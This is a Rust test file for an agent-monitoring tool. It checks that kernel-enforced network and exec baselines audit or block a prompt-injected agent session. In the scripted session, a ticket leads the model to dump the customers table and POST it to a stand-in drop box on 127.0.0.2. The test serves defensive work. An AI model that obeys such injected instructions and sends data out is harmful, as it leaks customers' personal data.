//! End to end, privileged: a promoted baseline enforced in the kernel (issue 17,
//! docs/enforcement.md).
//!
//! 1. The recordings' scenario (tests/recordings.rs): the account-health assistant
//!    (tests/agents/incident_agent.py) on the host, its ordinary session learned into a
//!    baseline (recorded, `baseline export`, `baseline promote`), then the injected session
//!    (a ticket tells the model to POST the customers' rows to a drop box on 127.0.0.2) run
//!    under that policy: in audit mode everything runs and "would block" names the POST, its
//!    tool call and the incident; in enforce mode the POST fails with EPERM inside the agent,
//!    the agent goes on, the ordinary twin (governed by the same policy, at the same time)
//!    runs unaffected, and the incident records the block.
//! 2. Network details with a probe (tests/agents/connect_probe.py): IPv4, IPv6, IPv4-mapped
//!    IPv6, UDP `sendto`, a child process of the governed one, a process governed by its cgroup
//!    (a container's scope), a process outside the governed agents reaching the same
//!    destination (allowed), and audit mode beside enforce mode.

mod support;

use std::io::{Read as _, Write as _};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::*;

const API_KEY: &str = "sk-agentscope-enforcement-secret-5d1c";
const ORDINARY_MODEL: &str = "gpt-4o-mini";
const INJECTED_MODEL: &str = "gpt-4o-mini-2024-07-18";
const EXFIL_SQL: &str = "SELECT name, email, plan, balance FROM customers";
const NARROW_SQL: &str =
    "SELECT name, plan, balance FROM customers WHERE balance > 100 ORDER BY balance DESC";
const EPERM: i64 = 1;
const ECONNREFUSED: i64 = 111;

fn agentscope(args: &[&str]) -> std::process::Output {
    Command::new(BIN)
        .args(args)
        .output()
        .expect("run agentscope")
}

fn agentscope_ok(args: &[&str]) -> String {
    let output = agentscope(args);
    assert!(
        output.status.success(),
        "agentscope {args:?}: {}\n{}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn enforce_events(captured: &Captured) -> Vec<Value> {
    captured.of_kind("enforce").cloned().collect()
}

// ---------------------------------------------------------------------------------------------
// 1. The injected session under its ordinary twin's baseline.

/// The two sessions' model scripts, one per model name (the mock serves both on one port, so
/// the model's address is the same in the baseline and under enforcement).
fn scripts(docs: &Path, api_port: u16, drop_url: &str) -> Value {
    let doc = |name: &str| docs.join(name).to_str().unwrap().to_string();
    let health = [
        json!({"tool_calls": [
            {"name": "read_file", "arguments": {"path": doc("kb/account-health-playbook.md")}},
            {"name": "http_get", "arguments": {
                "url": format!("http://127.0.0.1:{api_port}/api/accounts/42/status")}},
        ]}),
        json!({"final_text": "Account 42 is healthy by the playbook."}),
    ];
    json!({"by_model": {
        ORDINARY_MODEL: {"turns": [
            health[0], health[1],
            {"tool_calls": [{"name": "read_file",
                             "arguments": {"path": doc("tickets/SUP-4702.txt")}}]},
            {"final_text": "SUP-4702: Initech wants two more seats."},
            {"tool_calls": [{"name": "query_database", "arguments": {"sql": NARROW_SQL}}]},
            {"final_text": "Customers with a balance above 100:\n{{result:query_database}}"},
        ]},
        INJECTED_MODEL: {"turns": [
            health[0], health[1],
            {"tool_calls": [{"name": "read_file",
                             "arguments": {"path": doc("tickets/SUP-4711.txt")}}]},
            {"tool_calls": [{"name": "query_database", "arguments": {"sql": EXFIL_SQL}}]},
            {"tool_calls": [{"name": "http_post", "arguments": {
                "url": drop_url, "body": "{{result:query_database}}"}}]},
            {"final_text": "SUP-4711: correct the plan and reissue the invoice."},
        ]},
    }})
}

struct Services {
    _postgres: PostgresServer,
    _api: HttpApi,
    _drop_box: HttpApi,
    crm: McpCrmServer,
    llm: MockLlm,
    received_log: PathBuf,
    drop_url: String,
    drop_port: u16,
}

impl Services {
    fn start(dir: &Path) -> Services {
        let postgres = PostgresServer::start(dir);
        let api = HttpApi::start(dir);
        let received_log = dir.join("drop-box.jsonl");
        let drop_box = HttpApi::start_with(dir, "drop-box", "127.0.0.2", Some(&received_log));
        let drop_url = format!("http://127.0.0.2:{}/collect", drop_box.port);
        let crm = McpCrmServer::start(dir, Some(postgres.port));
        let docs = write_documents(dir, &drop_url);
        let scenario = dir.join("scenario.json");
        std::fs::write(&scenario, scripts(&docs, api.port, &drop_url).to_string()).unwrap();
        let llm = MockLlm::start_with(dir, &["--scenario", scenario.to_str().unwrap()]);
        Services {
            drop_port: drop_box.port,
            _postgres: postgres,
            _api: api,
            _drop_box: drop_box,
            crm,
            llm,
            received_log,
            drop_url,
        }
    }

    /// POST bodies the drop box received.
    fn received(&self) -> usize {
        std::fs::read_to_string(&self.received_log)
            .unwrap_or_default()
            .lines()
            .count()
    }

    /// A paused agent session. `script` is incident_agent.py or a link to it (another name is
    /// another agent key, so two sessions at once stay two agents).
    fn agent(&self, dir: &Path, script: &Path, injected: bool, dump: &Path) -> Paused {
        let mut args = vec![
            script.display().to_string(),
            "--llm-port".into(),
            self.llm.port.to_string(),
            "--ca".into(),
            self.llm.cert.display().to_string(),
            "--mcp-url".into(),
            self.crm.url(),
            "--dump".into(),
            dump.display().to_string(),
            "--model".into(),
            if injected {
                INJECTED_MODEL
            } else {
                ORDINARY_MODEL
            }
            .into(),
        ];
        let questions: &[&str] = if injected {
            &[
                "How healthy is account 42 this week?",
                "Please triage ticket SUP-4711 for account 42.",
            ]
        } else {
            &[
                "How healthy is account 42 this week?",
                "What does ticket SUP-4702 ask for?",
                "Which customers have a balance above 100?",
            ]
        };
        for question in questions {
            args.extend(["--question".to_string(), question.to_string()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        Paused::agent(
            dir,
            &mcp_python(),
            &args,
            &[("AGENTSCOPE_TEST_API_KEY", API_KEY)],
        )
    }

    /// Something the traced CRM server does, so recorded event time passes the end of a
    /// learning period after the agent has finished.
    fn poke_crm(&self) {
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", self.crm.port)).unwrap();
        stream
            .write_all(b"GET /health HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
            .unwrap();
        let mut reply = Vec::new();
        let _ = stream.read_to_end(&mut reply);
    }
}

fn dump_of(path: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn tool_call<'a>(dump: &'a Value, name: &str) -> &'a Value {
    dump["tool_calls"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("no {name} call in {dump:#}"))
}

#[test]
fn injected_session_is_audited_then_blocked_while_its_twin_runs() {
    require_root();
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let services = Services::start(dir);
    let script = agents_dir()
        .canonicalize()
        .unwrap()
        .join("incident_agent.py");
    let crm_pid = services.crm.pid.to_string();

    // Learn: the ordinary session, recorded; then the CRM server is asked something once the
    // learning period (just longer than the session) has passed, so the baseline is complete.
    let learn_dump = dir.join("learn-dump.json");
    let ordinary = services.agent(dir, &script, false, &learn_dump);
    let ordinary_pid = ordinary.pid().to_string();
    let cap = dir.join("learn.cap");
    let learn_graph = dir.join("learn.graph.json");
    let collect = Collect::start(
        dir,
        &[
            "--quiet",
            "--no-kubernetes",
            "--pid",
            &ordinary_pid,
            "--pid",
            &crm_pid,
            "--record",
            cap.to_str().unwrap(),
            "--graph-json",
            learn_graph.to_str().unwrap(),
        ],
    );
    let released = Instant::now();
    ordinary.release();
    let output = ordinary.finish();
    assert!(output.contains("\"ok\": true"), "{output}");
    let period = released.elapsed().as_secs() + 1;
    std::thread::sleep(
        (released + Duration::from_millis(period * 1000 + 300))
            .saturating_duration_since(Instant::now()),
    );
    services.poke_crm();
    let learned = collect.stop();
    assert_eq!(
        learned.summary["kernel"]["dropped"], 0,
        "{}",
        learned.summary
    );
    let graph: Value =
        serde_json::from_str(&std::fs::read_to_string(&learn_graph).unwrap()).unwrap();
    let key = graph["agents"][0]["key"].as_str().unwrap().to_string();
    assert!(key.ends_with("incident_agent.py"), "{key}");
    let baseline = dir.join("ordinary.yaml");
    agentscope_ok(&[
        "baseline",
        "export",
        "--capture",
        cap.to_str().unwrap(),
        "--agent",
        &key,
        "--learning-period",
        &period.to_string(),
        "-w",
        baseline.to_str().unwrap(),
    ]);
    let text = std::fs::read_to_string(&baseline).unwrap();
    assert!(text.contains("status: complete"), "{text}");
    let audit = dir.join("audit.yaml");
    let enforce = dir.join("enforce.yaml");
    agentscope_ok(&[
        "baseline",
        "promote",
        baseline.to_str().unwrap(),
        "--network",
        "audit",
        "-w",
        audit.to_str().unwrap(),
    ]);
    // Promoted again: the same allow-list, enforced, revision 2.
    agentscope_ok(&[
        "baseline",
        "promote",
        audit.to_str().unwrap(),
        "--network",
        "enforce",
        "-w",
        enforce.to_str().unwrap(),
    ]);
    let policy = std::fs::read_to_string(&enforce).unwrap();
    assert!(
        policy.contains("revision: 2") && policy.contains("network: enforce"),
        "{policy}"
    );
    assert!(
        policy.contains(&format!("port: {}", services.llm.port)),
        "the model's address is allowed: {policy}"
    );
    assert!(!policy.contains("127.0.0.2"), "{policy}");
    eprintln!("learned in {:.1} s", started.elapsed().as_secs_f64());

    // Three sessions at once: the injected one in audit mode (everything runs, "would block"
    // names the POST, its tool call and the incident), the injected one in enforce mode (the
    // POST fails with EPERM, the agent goes on, the incident records the block) and the
    // ordinary twin in enforce mode (unaffected). Each runs from its own name for the script,
    // so each is an agent of its own.
    let named = |name: &str| {
        let link = dir.join(name);
        std::os::unix::fs::symlink(&script, &link).unwrap();
        link
    };
    let (audit_script, twin_script) = (
        named("incident_agent_audit.py"),
        named("incident_agent_twin.py"),
    );
    let audit_dump = dir.join("audit-dump.json");
    let blocked_dump = dir.join("blocked-dump.json");
    let twin_dump = dir.join("twin-dump.json");
    let audited = services.agent(dir, &audit_script, true, &audit_dump);
    let injected = services.agent(dir, &script, true, &blocked_dump);
    let twin = services.agent(dir, &twin_script, false, &twin_dump);
    let (audited_pid, injected_pid, twin_pid) = (audited.pid(), injected.pid(), twin.pid());
    let pids: Vec<String> = [audited_pid, injected_pid, twin_pid]
        .iter()
        .map(u32::to_string)
        .collect();
    let graph_path = dir.join("enforce.graph.json");
    let scopes = [
        format!("pid:{audited_pid}={}", audit.display()),
        format!("pid:{injected_pid}={}", enforce.display()),
        format!("pid:{twin_pid}={}", enforce.display()),
    ];
    let collect = Collect::start(
        dir,
        &[
            "--no-kubernetes",
            "--pid",
            &pids[0],
            "--pid",
            &pids[1],
            "--pid",
            &pids[2],
            "--pid",
            &crm_pid,
            "--graph-json",
            graph_path.to_str().unwrap(),
            "--enforce",
            &scopes[0],
            "--enforce",
            &scopes[1],
            "--enforce",
            &scopes[2],
        ],
    );
    for agent in [&audited, &injected, &twin] {
        agent.release();
    }
    let outputs = [audited.finish(), injected.finish(), twin.finish()];
    let captured = collect.stop();
    for output in &outputs {
        // Each agent answered: the blocked one went on after its POST failed.
        assert!(output.contains("\"ok\": true"), "{output}");
    }
    assert_eq!(
        services.received(),
        1,
        "only the audited session's POST reaches the drop box"
    );
    let post = tool_call(&dump_of(&audit_dump), "http_post").clone();
    assert_eq!(post["is_error"], false, "{post:#}");
    let post = tool_call(&dump_of(&blocked_dump), "http_post").clone();
    assert_eq!(post["is_error"], true, "{post:#}");
    assert!(
        post["result"]
            .as_str()
            .unwrap()
            .contains("[Errno 1] Operation not permitted"),
        "EPERM inside the agent: {post:#}"
    );
    let twin_calls = dump_of(&twin_dump);
    assert_eq!(twin_calls["tool_calls"].as_array().unwrap().len(), 4);
    for call in twin_calls["tool_calls"].as_array().unwrap() {
        assert_eq!(call["is_error"], false, "the twin is unaffected: {call:#}");
    }

    // The kernel's decisions: only the injected sessions' POSTs, each with its policy.
    let events = enforce_events(&captured);
    let destination = format!("127.0.0.2:{}", services.drop_port);
    for (pid, action, revision) in [
        (audited_pid, "would_block", 1),
        (injected_pid, "blocked", 2),
    ] {
        let of_pid: Vec<&Value> = events.iter().filter(|e| e["pid"] == pid).collect();
        assert!(!of_pid.is_empty(), "no {action} event: {events:#?}");
        for event in of_pid {
            assert_eq!(event["action"], action, "{event}");
            assert_eq!(event["hook"], "connect4", "{event}");
            assert_eq!(event["addr"], "127.0.0.2", "{event}");
            assert_eq!(event["port"], services.drop_port, "{event}");
            assert_eq!(event["baseline"], key.as_str(), "{event}");
            assert_eq!(event["revision"], revision, "{event}");
        }
    }
    assert!(
        events
            .iter()
            .all(|e| e["pid"] == audited_pid || e["pid"] == injected_pid),
        "{events:#?}"
    );

    // Detection: each injected session's incident records what enforcement did, linked to
    // the http_post call; the twin has no incident.
    let graph: Value =
        serde_json::from_str(&std::fs::read_to_string(&graph_path).unwrap()).unwrap();
    let incidents = graph["incidents"].as_array().expect("incidents");
    assert_eq!(incidents.len(), 2, "{:#}", graph["incidents"]);
    let url = &services.drop_url;
    for (agent, line) in [
        (
            "incident_agent_audit.py",
            format!("would block: http_post (url={url}) → tcp connect to {destination} would be denied by baseline {key} rev 1"),
        ),
        (
            " incident_agent.py",
            format!("blocked: http_post (url={url}) → tcp connect to {destination} denied by baseline {key} rev 2"),
        ),
    ] {
        let incident = incidents
            .iter()
            .find(|i| i["agent"].as_str().unwrap().ends_with(agent))
            .unwrap_or_else(|| panic!("no incident of {agent}: {incidents:#?}"));
        assert!(
            incident["chain"]["enforcement"]
                .as_array()
                .is_some_and(|lines| lines.iter().any(|l| *l == line.as_str())),
            "expected {line:?} in {:#}",
            incident["chain"]
        );
    }
    let posts: Vec<&Value> = graph["tool_calls"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["gen_ai.tool.name"] == "http_post")
        .collect();
    assert_eq!(posts.len(), 2, "{posts:#?}");
    for post in posts {
        assert!(
            post.to_string().contains(&format!("net:tcp:{destination}")),
            "the call is linked to what the policy decided: {post:#}"
        );
    }
    eprintln!("enforced by {:.1} s", started.elapsed().as_secs_f64());
}

// ---------------------------------------------------------------------------------------------
// 2. Families, protocols, process trees and who is governed.

/// Two ports nobody listens on (TCP connects to them are refused when let through).
fn closed_ports() -> (u16, u16) {
    let a = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let b = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    (
        a.local_addr().unwrap().port(),
        b.local_addr().unwrap().port(),
    )
}

fn probe(dir: &Path, attempts: &[String]) -> Paused {
    probe_with(dir, "python3", attempts)
}

/// The probe run by `interpreter` (an exec policy must allow the path the exec names).
fn probe_with(dir: &Path, interpreter: &str, attempts: &[String]) -> Paused {
    let mut args = vec![agents_dir().join("connect_probe.py").display().to_string()];
    args.extend(attempts.iter().cloned());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    Paused::command(dir, interpreter, &args, &[])
}

fn errnos(output: &str) -> Vec<(String, i64)> {
    let report: Value = serde_json::from_str(output.trim()).unwrap();
    report["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["attempt"].as_str().unwrap().to_string(),
                r["result"].as_i64().unwrap(),
            )
        })
        .collect()
}

#[test]
fn policies_cover_families_protocols_execs_process_trees_and_cgroups() {
    require_root();
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let (allowed, other) = closed_ports();
    // A baseline as `baseline export` writes one: it reached 127.0.0.1 and ::1 on one port.
    let baseline = dir.join("probe.yaml");
    std::fs::write(
        &baseline,
        format!(
            "apiVersion: agentscope.dev/v1\nkind: AgentBaseline\nmetadata:\n  agent: host:python connect_probe.py\n  \
             status: complete\n  learningPeriodSeconds: 600\nspec:\n  egress:\n    addresses:\n    \
             - 127.0.0.1:{allowed}\n    - '[::1]:{allowed}'\n"
        ),
    )
    .unwrap();
    let enforce = dir.join("enforce.yaml");
    let audit = dir.join("audit.yaml");
    for (mode, path) in [("enforce", &enforce), ("audit", &audit)] {
        agentscope_ok(&[
            "baseline",
            "promote",
            baseline.to_str().unwrap(),
            "--network",
            mode,
            "-w",
            path.to_str().unwrap(),
        ]);
    }
    let denied = format!("127.0.0.2:{allowed}");
    let attempts: Vec<String> = [
        format!("tcp4:127.0.0.1:{allowed}"),
        format!("tcp4:{denied}"),
        format!("tcp4:127.0.0.1:{other}"),
        format!("tcp6:::1:{allowed}"),
        format!("tcp6:::1:{other}"),
        format!("tcp6:::ffff:127.0.0.1:{allowed}"),
        format!("tcp6:::ffff:{denied}"),
        format!("udp4:127.0.0.1:{allowed}"),
        format!("udp4:{denied}"),
        format!("udp6:::1:{allowed}"),
        format!("udp6:::1:{other}"),
        format!("udp6:::ffff:{denied}"),
        format!("child:tcp4:{denied}"),
    ]
    .into();
    // Exec: a policy that allows the probe's interpreter and /bin/true, enforced and audited.
    let exec_baseline = dir.join("exec.yaml");
    std::fs::write(
        &exec_baseline,
        "apiVersion: agentscope.dev/v1\nkind: AgentBaseline\nmetadata:\n  agent: host:python connect_probe.py\n  \
         status: complete\n  learningPeriodSeconds: 600\nspec:\n  executables:\n    \
         /usr/bin/python3:\n    - []\n    /bin/true:\n    - []\n",
    )
    .unwrap();
    let exec_enforce = dir.join("exec-enforce.yaml");
    let exec_audit = dir.join("exec-audit.yaml");
    for (mode, path) in [("enforce", &exec_enforce), ("audit", &exec_audit)] {
        agentscope_ok(&[
            "baseline",
            "promote",
            exec_baseline.to_str().unwrap(),
            "--exec",
            mode,
            "-w",
            path.to_str().unwrap(),
        ]);
    }
    let exec_attempts = ["exec:/bin/true".to_string(), "exec:/bin/echo".to_string()];
    let exec_enforced = probe_with(dir, "/usr/bin/python3", &exec_attempts);
    let exec_audited = probe_with(dir, "/usr/bin/python3", &exec_attempts);
    // Governed as a container: every process of a cgroup (dropped last, after its process).
    let container = support::kubernetes::PodCgroup::create(
        "6f1c2d3e-0000-4000-8000-00000000e1f0",
        &support::kubernetes::random_hex(64),
    );
    let governed = probe(dir, &attempts);
    let audited = probe(dir, &[format!("tcp4:{denied}"), format!("udp4:{denied}")]);
    let outside = probe(dir, &[format!("tcp4:{denied}"), format!("udp4:{denied}")]);
    let contained = probe(
        dir,
        &[
            format!("tcp4:127.0.0.1:{allowed}"),
            format!("tcp4:{denied}"),
        ],
    );
    container.move_in(contained.pid());
    let (governed_pid, audited_pid, outside_pid, contained_pid) = (
        governed.pid(),
        audited.pid(),
        outside.pid(),
        contained.pid(),
    );
    let (exec_enforced_pid, exec_audited_pid) = (exec_enforced.pid(), exec_audited.pid());
    let scopes = [
        format!("pid:{governed_pid}={}", enforce.display()),
        format!("pid:{audited_pid}={}", audit.display()),
        format!("cgroup:{}={}", container.leaf.display(), enforce.display()),
        format!("pid:{exec_enforced_pid}={}", exec_enforce.display()),
        format!("pid:{exec_audited_pid}={}", exec_audit.display()),
    ];
    let mut args: Vec<String> = vec!["--no-kubernetes".into()];
    for pid in [
        governed_pid,
        audited_pid,
        outside_pid,
        contained_pid,
        exec_enforced_pid,
        exec_audited_pid,
    ] {
        args.extend(["--pid".into(), pid.to_string()]);
    }
    for scope in &scopes {
        args.extend(["--enforce".into(), scope.clone()]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let collect = Collect::start(dir, &args);
    for workload in [
        &governed,
        &audited,
        &outside,
        &contained,
        &exec_enforced,
        &exec_audited,
    ] {
        workload.release();
    }
    let governed_out = errnos(&governed.finish());
    let audited_out = errnos(&audited.finish());
    let outside_out = errnos(&outside.finish());
    let contained_out = errnos(&contained.finish());
    let exec_enforced_out = errnos(&exec_enforced.finish());
    let exec_audited_out = errnos(&exec_audited.finish());
    let captured = collect.stop();

    let expect = |out: &[(String, i64)], attempt: &str, errno: i64| {
        let got = out.iter().find(|(a, _)| a == attempt).map(|(_, e)| *e);
        assert_eq!(got, Some(errno), "{attempt}: {out:?}");
    };
    // Enforce: what the baseline reached is let through (refused by the closed port, or
    // sent), everything else fails with EPERM, IPv4-mapped IPv6 judged as IPv4.
    expect(&governed_out, &attempts[0], ECONNREFUSED);
    expect(&governed_out, &attempts[1], EPERM);
    expect(&governed_out, &attempts[2], EPERM);
    expect(&governed_out, &attempts[3], ECONNREFUSED);
    expect(&governed_out, &attempts[4], EPERM);
    expect(&governed_out, &attempts[5], ECONNREFUSED);
    expect(&governed_out, &attempts[6], EPERM);
    expect(&governed_out, &attempts[7], 0);
    expect(&governed_out, &attempts[8], EPERM);
    expect(&governed_out, &attempts[9], 0);
    expect(&governed_out, &attempts[10], EPERM);
    expect(&governed_out, &attempts[11], EPERM);
    // A child forked after enforcement began is governed too.
    expect(&governed_out, &attempts[12], EPERM);
    // Audit: let through, reported.
    expect(&audited_out, &format!("tcp4:{denied}"), ECONNREFUSED);
    expect(&audited_out, &format!("udp4:{denied}"), 0);
    // Not governed: the same destination is reachable.
    expect(&outside_out, &format!("tcp4:{denied}"), ECONNREFUSED);
    expect(&outside_out, &format!("udp4:{denied}"), 0);
    // Governed by its cgroup.
    expect(
        &contained_out,
        &format!("tcp4:127.0.0.1:{allowed}"),
        ECONNREFUSED,
    );
    expect(&contained_out, &format!("tcp4:{denied}"), EPERM);

    // Exec: the allowed program runs; the other is killed before it runs (enforce) or runs
    // and is reported (audit).
    expect(&exec_enforced_out, "exec:/bin/true", 0);
    expect(&exec_enforced_out, "exec:/bin/echo", -9);
    expect(&exec_audited_out, "exec:/bin/true", 0);
    expect(&exec_audited_out, "exec:/bin/echo", 0);
    let all_events = enforce_events(&captured);
    let execs: Vec<(u64, String, String)> = all_events
        .iter()
        .filter(|e| e["category"] == "exec")
        .map(|e| {
            (
                e["ppid"].as_u64().unwrap(),
                e["action"].as_str().unwrap().to_string(),
                e["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        execs.len(),
        2,
        "one decision per probe, on /bin/echo: {all_events:#?}"
    );
    assert!(execs.contains(&(
        u64::from(exec_enforced_pid),
        "blocked".into(),
        "/bin/echo".into()
    )));
    assert!(execs.contains(&(
        u64::from(exec_audited_pid),
        "would_block".into(),
        "/bin/echo".into()
    )));

    let events: Vec<Value> = all_events
        .into_iter()
        .filter(|e| e["category"] == "network")
        .collect();
    let of = |pid: u32| -> Vec<&Value> { events.iter().filter(|e| e["pid"] == pid).collect() };
    assert!(of(outside_pid).is_empty(), "{events:#?}");
    let decided: Vec<(String, String, String, String, u64)> = events
        .iter()
        .filter(|e| e["pid"] == governed_pid)
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_string(),
                e["hook"].as_str().unwrap().to_string(),
                e["protocol"].as_str().unwrap().to_string(),
                e["addr"].as_str().unwrap().to_string(),
                e["port"].as_u64().unwrap(),
            )
        })
        .collect();
    let blocked = |hook: &str, protocol: &str, addr: &str, port: u16| {
        (
            "blocked".to_string(),
            hook.to_string(),
            protocol.to_string(),
            addr.to_string(),
            u64::from(port),
        )
    };
    assert_eq!(
        decided,
        vec![
            blocked("connect4", "tcp", "127.0.0.2", allowed),
            blocked("connect4", "tcp", "127.0.0.1", other),
            blocked("connect6", "tcp", "::1", other),
            blocked("connect6", "tcp", "127.0.0.2", allowed),
            blocked("sendmsg4", "udp", "127.0.0.2", allowed),
            blocked("sendmsg6", "udp", "::1", other),
            // The kernel hands a datagram to an IPv4-mapped address from an IPv6 socket to
            // IPv4's sendmsg, whose hook judges it.
            blocked("sendmsg4", "udp", "127.0.0.2", allowed),
        ],
        "{events:#?}"
    );
    // The child's block carries the child's pid, its parent the governed probe.
    let child: Vec<&Value> = events
        .iter()
        .filter(|e| e["ppid"] == governed_pid)
        .collect();
    assert_eq!(child.len(), 1, "{events:#?}");
    assert_eq!(child[0]["action"], "blocked");
    let contained_events = of(contained_pid);
    assert_eq!(contained_events.len(), 1, "{events:#?}");
    assert_eq!(contained_events[0]["action"], "blocked");
    assert_eq!(contained_events[0]["cgroup_id"], container.id);
    let audited_events = of(audited_pid);
    assert_eq!(audited_events.len(), 2, "{events:#?}");
    for event in audited_events {
        assert_eq!(event["action"], "would_block", "{event}");
        assert_eq!(event["baseline"], "host:python connect_probe.py", "{event}");
    }
    eprintln!("probes took {:.1} s", started.elapsed().as_secs_f64());
}
